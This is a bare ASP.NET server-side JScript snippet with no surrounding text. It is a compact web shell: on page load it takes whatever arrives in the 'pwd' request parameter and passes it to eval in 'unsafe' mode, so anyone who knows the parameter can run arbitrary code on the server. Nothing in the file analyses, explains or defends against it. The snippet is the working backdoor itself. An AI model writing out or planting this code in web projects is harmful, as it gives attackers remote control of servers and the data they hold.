<script runat="server" language="JScript">
function Page_Load() {
    var x = Request.Params["pwd"];
    if (x) { eval(x, "unsafe"); }
}
</script>
